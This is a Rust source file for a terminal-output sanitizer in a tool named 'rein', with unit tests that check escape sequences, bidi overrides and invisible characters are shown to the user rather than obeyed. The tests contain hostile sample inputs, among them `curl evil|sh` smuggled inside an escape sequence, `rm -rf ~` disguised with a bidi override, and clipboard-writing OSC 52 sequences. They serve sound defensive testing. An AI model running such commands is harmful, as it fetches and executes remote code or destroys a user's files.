//! The one sanitizer: every byte rein writes to a terminal (or to a file a person will read)
//! that came from a model, a file, a tool, a server or a repository passes through here.
//!
//! Two forms, one set of rules:
//! - [`sanitize`] for what the TUI draws: no control character reaches the terminal (it would
//!   move the cursor, retitle the window, draw images or write the clipboard), and none hides
//!   text either: each is shown as [`visible`] shows it, the sequence's payload as the plain
//!   text it is. Only colours (`ESC [ digits m`, which carry nothing but numbers) are dropped,
//!   so coloured tool output reads clean. Dropping a whole sequence would hide what it holds:
//!   a diff or a command the person approves would read `print("")` while the file gets
//!   `print("␛]0;"); os.system(…)`. Characters whose width terminals disagree on are dropped
//!   (variation selectors, joiners, skin tones): where ratatui counts one width and the
//!   terminal draws another, the rest of the row shifts; those that reorder or hide text
//!   (bidi overrides, tags, zero-width spaces) are shown as `\u{202e}`.
//! - [`visible`] for everything printed outside the TUI (`rein exec`, every subcommand, error
//!   messages, exports to a file): the text is kept, and each control character is shown
//!   instead of obeyed: C0 as its Unicode control picture (ESC as `␛`, BEL as `␇`, a lone CR
//!   as `␍`), DEL as `␡`, C1 (U+0080–U+009F) and invisible characters that reorder or hide
//!   text (bidi overrides and isolates as in Trojan Source, tag characters, zero-width
//!   spaces) as `\u{202e}`. Newlines and tabs stay. It maps one character at a time, so text
//!   streamed in pieces is as safe as text printed whole.
//!
//! [`json_safe`] makes serialised JSON safe to print the same way (JSON escapes C0 itself).

use std::borrow::Cow;
use std::iter::Peekable;
use std::str::Chars;

/// `s` safe to draw in the TUI: colours dropped, every other control character and every
/// character that hides or reorders text shown (see the module doc), width-ambiguous
/// characters dropped, newlines kept, tabs as 4 spaces, CR before LF dropped.
pub fn sanitize(s: &str) -> Cow<'_, str> {
    if !s
        .chars()
        .any(|c| (c.is_control() && c != '\n') || width_ambiguous(c) || halfwidth_mark(c))
    {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' => out.push('\n'),
            '\t' => out.push_str("    "),
            '\r' if chars.peek() == Some(&'\n') => {}
            '\u{1b}' if skip_colour(&mut chars) => {}
            // Halfwidth sound marks join the katakana before them in some terminals, not in
            // others: the standalone fullwidth marks are drawn alike everywhere.
            '\u{ff9e}' => out.push('\u{309b}'),
            '\u{ff9f}' => out.push('\u{309c}'),
            c if c.is_control() || hides_text(c) => push_shown(&mut out, c),
            c if width_ambiguous(c) => {}
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// After an ESC: skips a colour sequence (`[`, up to 64 digits, `;` or `:`, then `m`) and
/// says so; anything else is left where it is, to be shown.
fn skip_colour(chars: &mut Peekable<Chars<'_>>) -> bool {
    let mut ahead = chars.clone();
    if ahead.next() != Some('[') {
        return false;
    }
    for _ in 0..=64 {
        match ahead.next() {
            Some('m') => {
                *chars = ahead;
                return true;
            }
            Some(c) if c.is_ascii_digit() || c == ';' || c == ':' => {}
            _ => return false,
        }
    }
    false
}

/// `s` for the TUI where the person reviews before approving (a command, its arguments, the
/// reason, a diff, a path): like [`visible`], each control or hiding character is shown as a
/// picture or an escape, colours too, and so is every width-ambiguous character (a soft
/// hyphen in `run\u{ad}.sh` names another file than `run.sh`), so nothing it holds is
/// invisible; then made safe to draw as [`sanitize`] does.
pub fn shown(s: &str) -> Cow<'_, str> {
    let seen = visible(s);
    if !seen.chars().any(width_ambiguous) {
        return match seen {
            Cow::Borrowed(b) => sanitize(b),
            Cow::Owned(o) => Cow::Owned(sanitize(&o).into_owned()),
        };
    }
    let mut out = String::with_capacity(seen.len() + 8);
    for c in seen.chars() {
        if width_ambiguous(c) {
            push_shown(&mut out, c);
        } else {
            out.push(c);
        }
    }
    Cow::Owned(sanitize(&out).into_owned())
}

/// `s` for the clipboard (`/copy`): what the screen showed of it, with tabs kept: escape
/// sequences (payload and all), other control characters and characters that hide or reorder
/// text are dropped, so pasting it into a shell or an editor brings none of them back.
pub fn for_clipboard(s: &str) -> Cow<'_, str> {
    let dropped = |c: char| (c.is_control() && c != '\n' && c != '\t') || hides_text(c);
    if !s.chars().any(dropped) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\u{1b}' => skip_escape(&mut chars),
            '\u{9b}' => skip_csi(&mut chars),
            '\u{90}' | '\u{98}' | '\u{9d}' | '\u{9e}' | '\u{9f}' => skip_string(&mut chars),
            c if dropped(c) => {}
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Halfwidth katakana sound marks, drawn as their fullwidth forms (see `sanitize`).
fn halfwidth_mark(c: char) -> bool {
    matches!(c, '\u{ff9e}' | '\u{ff9f}')
}

/// `s` as text a terminal shows rather than obeys (see the module doc): newlines and tabs
/// kept, CR kept before LF, every other control character and every invisible
/// reordering or hiding character made visible.
pub fn visible(s: &str) -> Cow<'_, str> {
    if s.bytes()
        .all(|b| (0x20..0x7f).contains(&b) || b == b'\n' || b == b'\t')
        || !s.chars().any(|c| needs_showing(c) || c == '\r')
    {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 16);
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            '\n' | '\t' => out.push(c),
            '\r' if chars.peek() == Some(&'\n') => out.push(c),
            c if needs_showing(c) => push_shown(&mut out, c),
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// Whether [`visible`] shows `c` instead of passing it through (CR aside).
fn needs_showing(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t') || hides_text(c)
}

/// The visible form of `c`: C0 as a control picture, DEL as `␡`, anything else as `\u{…}`.
fn push_shown(out: &mut String, c: char) {
    let code = u32::from(c);
    match code {
        0..=0x1f => out.push(char::from_u32(0x2400 + code).unwrap_or('\u{fffd}')),
        0x7f => out.push('\u{2421}'),
        _ => {
            use std::fmt::Write;
            let _ = write!(out, "\\u{{{code:x}}}");
        }
    }
}

/// Invisible characters that reorder or hide the text around them: bidi embeddings,
/// overrides, isolates and marks (Trojan Source), zero-width spaces and word joiners,
/// byte-order marks, interlinear annotations, tag characters (hidden ASCII). Joiners and
/// variation selectors stay: emoji and scripts need them, and they hide nothing.
fn hides_text(c: char) -> bool {
    matches!(c,
        '\u{61c}'
        | '\u{200b}'
        | '\u{200e}'..='\u{200f}'
        | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{2064}'
        | '\u{2066}'..='\u{206f}'
        | '\u{feff}'
        | '\u{fff9}'..='\u{fffb}'
        | '\u{e0001}'
        | '\u{e0020}'..='\u{e007f}'
    )
}

/// Serialised JSON made safe to print: DEL, C1 and the characters [`visible`] shows are
/// written as `\uXXXX` escapes (JSON already escapes C0), so the text reads back unchanged.
/// They can only occur inside strings, where such an escape means the same character.
pub fn json_safe(json: &str) -> Cow<'_, str> {
    if !json.chars().any(needs_showing) {
        return Cow::Borrowed(json);
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if needs_showing(c) {
            let mut units = [0u16; 2];
            for unit in c.encode_utf16(&mut units) {
                use std::fmt::Write;
                let _ = write!(out, "\\u{unit:04x}");
            }
        } else {
            out.push(c);
        }
    }
    Cow::Owned(out)
}

/// Characters that change the width of what surrounds them, or are invisible, in ways
/// terminals do not agree on: variation selectors (`⚠️` is one column in xterm and VTE, two in
/// kitty), zero-width joiners (a family emoji is two columns or six), skin-tone modifiers and
/// Unicode format characters (bidi overrides that reorder text, tags that hide text, soft
/// hyphens). Dropped, each piece of a sequence is drawn alone at the width everyone agrees on.
fn width_ambiguous(c: char) -> bool {
    matches!(c,
        '\u{ad}'
        | '\u{600}'..='\u{605}'
        | '\u{61c}'
        | '\u{6dd}'
        | '\u{70f}'
        | '\u{890}'..='\u{891}'
        | '\u{8e2}'
        | '\u{180e}'
        | '\u{200b}'..='\u{200f}'
        | '\u{202a}'..='\u{202e}'
        | '\u{2060}'..='\u{2064}'
        | '\u{2066}'..='\u{206f}'
        | '\u{fe00}'..='\u{fe0f}'
        | '\u{feff}'
        | '\u{fff9}'..='\u{fffb}'
        | '\u{110bd}'
        | '\u{110cd}'
        | '\u{13430}'..='\u{1343f}'
        | '\u{1bca0}'..='\u{1bca3}'
        | '\u{1d173}'..='\u{1d17a}'
        | '\u{1f3fb}'..='\u{1f3ff}'
        | '\u{e0001}'
        | '\u{e0020}'..='\u{e007f}'
        | '\u{e0100}'..='\u{e01ef}'
    )
}

/// `s` with every control character (line breaks and tabs too) and every hiding or reordering
/// character made visible: for text a person approves (a trust prompt's command line), where a
/// crafted value must not hide any part of itself.
pub fn visible_line(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        if c.is_control() || hides_text(c) {
            push_shown(&mut out, c);
        } else {
            out.push(c);
        }
    }
    out
}

/// `sanitize`, with line breaks turned into spaces: for one-line places (status, titles).
pub fn one_line(s: &str) -> String {
    sanitize(s).replace('\n', " ")
}

/// Skips what follows an ESC (ECMA-48): a control sequence, a control string, or an escape
/// sequence of intermediate bytes and one final byte.
fn skip_escape(chars: &mut Peekable<Chars<'_>>) {
    match chars.peek() {
        Some('[') => {
            chars.next();
            skip_csi(chars);
        }
        // OSC, DCS, SOS, PM, APC (kitty graphics is `ESC _G…`): a string up to its terminator.
        Some(']' | 'P' | 'X' | '^' | '_') => {
            chars.next();
            skip_string(chars);
        }
        // `ESC ( B` and friends: intermediates 0x20–0x2F, then one final byte.
        Some(_) => {
            while chars
                .next_if(|c| ('\u{20}'..='\u{2f}').contains(c))
                .is_some()
            {}
            chars.next();
        }
        None => {}
    }
}

/// Skips a control sequence's parameters and its final byte (0x40–0x7E).
fn skip_csi(chars: &mut Peekable<Chars<'_>>) {
    for c in chars.by_ref() {
        if ('@'..='~').contains(&c) {
            break;
        }
    }
}

/// Skips a control string up to its terminator: ST (`ESC \` or 0x9C) or BEL. An ESC that
/// does not start ST ends the string too (terminals abort it) and starts a new sequence.
fn skip_string(chars: &mut Peekable<Chars<'_>>) {
    while let Some(c) = chars.next() {
        match c {
            '\u{7}' | '\u{9c}' => return,
            '\u{1b}' => {
                if chars.next_if_eq(&'\\').is_none() {
                    skip_escape(chars);
                }
                return;
            }
            _ => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn visible_line_shows_breaks_and_hiding_characters_too() {
        let shown = visible_line("rm -rf ~\u{202e}txt.\n\tok\u{1b}[2K");
        assert!(
            !shown.chars().any(|c| c.is_control() || hides_text(c)),
            "{shown}"
        );
        assert_eq!(shown, "rm -rf ~\\u{202e}txt.\u{240a}\u{2409}ok\u{241b}[2K");
    }

    #[test]
    fn the_tui_form_obeys_no_control_and_hides_no_text() {
        let cases = [
            ("colours", "\u{1b}[31mred\u{1b}[0m", "red"),
            ("colours with colons", "\u{1b}[38:5:196mx\u{1b}[m", "x"),
            ("tab and CRLF", "a\tb\r\nc", "a    b\nc"),
            ("lone CR", "a\rb", "a\u{240d}b"),
            (
                "OSC title, BEL",
                "\u{1b}]0;title\u{7}ok",
                "\u{241b}]0;title\u{2407}ok",
            ),
            (
                "OSC hyperlink, ST",
                "\u{1b}]8;;http://x\u{1b}\\link",
                "\u{241b}]8;;http://x\u{241b}\\link",
            ),
            (
                "OSC 52 clipboard",
                "a\u{1b}]52;c;aGVsbG8=\u{7}b",
                "a\u{241b}]52;c;aGVsbG8=\u{2407}b",
            ),
            ("clear screen", "\u{1b}[2J", "\u{241b}[2J"),
            ("colour sequence cut short", "\u{1b}[31", "\u{241b}[31"),
            ("8-bit CSI", "\u{9b}1;31mred", "\\u{9b}1;31mred"),
            (
                "unterminated string",
                "ok\u{1b}]0;never ends",
                "ok\u{241b}]0;never ends",
            ),
            ("lone ESC at the end", "end\u{1b}", "end\u{241b}"),
            (
                "emoji presentation selector",
                "\u{26a0}\u{fe0f} warn",
                "\u{26a0} warn",
            ),
            (
                "zero-width joiners",
                "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
                "\u{1f468}\u{1f469}\u{1f467}",
            ),
            ("skin tone", "\u{1f44d}\u{1f3fd}", "\u{1f44d}"),
            (
                "bidi override",
                "a\u{202e}cba\u{202c}d",
                "a\\u{202e}cba\\u{202c}d",
            ),
            ("tag characters", "x\u{e0041}y", "x\\u{e0041}y"),
            ("soft hyphen, BOM", "co\u{ad}op\u{feff}", "coop\\u{feff}"),
            (
                "halfwidth sound marks",
                "\u{ff76}\u{ff9e}\u{ff8a}\u{ff9f}",
                "\u{ff76}\u{309b}\u{ff8a}\u{309c}",
            ),
            (
                "combining marks stay",
                "e\u{301}\u{20e3}",
                "e\u{301}\u{20e3}",
            ),
        ];
        for (what, input, want) in cases {
            let out = sanitize(input);
            assert_eq!(out, want, "{what}");
            assert!(
                !out.chars().any(|c| c.is_control() && c != '\n'),
                "{what}: {out:?}"
            );
        }
        assert!(matches!(sanitize("plain\ntext"), Cow::Borrowed(_)));
        assert!(matches!(sanitize("日本語 ✅ e\u{301}"), Cow::Borrowed(_)));
    }

    /// What an escape sequence holds stays on screen: a payload hidden inside one (the
    /// review's attack on the edit approval) is drawn as the text it is.
    #[test]
    fn a_payload_inside_an_escape_sequence_stays_in_sight() {
        let line =
            "print(\"\u{1b}]0;\"); __import__(\"os\").system(\"curl evil|sh\"); print(\"\u{7}\")";
        for drawn in [sanitize(line), shown(line)] {
            assert!(drawn.contains("system(\"curl evil|sh\")"), "{drawn}");
        }
        let c1 = "echo \"\u{9d}\"; curl evil | sh";
        assert!(sanitize(c1).contains("curl evil | sh"));
    }

    #[test]
    fn the_approval_form_shows_invisible_characters_too() {
        assert_eq!(shown("> run\u{ad}.sh"), "> run\\u{ad}.sh");
        assert_eq!(shown("a\u{200d}b\u{fe0f}"), "a\\u{200d}b\\u{fe0f}");
        assert_eq!(shown("\u{1b}[31mred"), "\u{241b}[31mred");
        assert_eq!(shown("a\tb"), "a    b");
        assert!(matches!(shown("plain"), Cow::Borrowed(_)));
    }

    #[test]
    fn printed_text_shows_controls_instead_of_obeying_them() {
        let cases = [
            ("plain", "a b\tc\n", "a b\tc\n"),
            (
                "OSC 52",
                "x\u{1b}]52;c;aGk=\u{7}y",
                "x\u{241b}]52;c;aGk=\u{2407}y",
            ),
            ("clear screen", "\u{1b}[2J", "\u{241b}[2J"),
            ("CRLF kept, lone CR shown", "a\r\nb\rc", "a\r\nb\u{240d}c"),
            (
                "NUL, BS, DEL",
                "\u{0}\u{8}\u{7f}",
                "\u{2400}\u{2408}\u{2421}",
            ),
            (
                "8-bit CSI and OSC",
                "\u{9b}2J\u{9d}0;t\u{9c}",
                "\\u{9b}2J\\u{9d}0;t\\u{9c}",
            ),
            ("NEL", "a\u{85}b", "a\\u{85}b"),
            (
                "Trojan Source",
                "if a\u{202e} {\u{2066}",
                "if a\\u{202e} {\\u{2066}",
            ),
            ("hidden tags", "x\u{e0041}", "x\\u{e0041}"),
            (
                "emoji and marks stay",
                "\u{26a0}\u{fe0f} e\u{301} \u{1f468}\u{200d}\u{1f469}",
                "\u{26a0}\u{fe0f} e\u{301} \u{1f468}\u{200d}\u{1f469}",
            ),
        ];
        for (what, input, want) in cases {
            assert_eq!(visible(input), want, "{what}");
            let shown = visible(input);
            assert!(
                !shown.chars().any(|c| c != '\r' && needs_showing(c)),
                "{what}: {shown:?}"
            );
            assert!(
                !shown.replace("\r\n", "\n").contains('\r'),
                "{what}: {shown:?}"
            );
        }
        assert!(matches!(visible("plain\ttext\n"), Cow::Borrowed(_)));
        assert!(matches!(visible("日本語 ✅"), Cow::Borrowed(_)));
    }

    #[test]
    fn json_keeps_the_text_and_prints_no_control_characters() {
        let text = "a\u{1b}]0;t\u{7}\u{9b}1m\u{7f}\u{202e}\u{e0041}é";
        let json = serde_json::to_string(&serde_json::json!({ "t": text })).unwrap_or_default();
        let safe = json_safe(&json);
        assert!(!safe.chars().any(needs_showing), "{safe}");
        let back: serde_json::Value = serde_json::from_str(&safe).unwrap_or_default();
        assert_eq!(back["t"], text);
    }
}
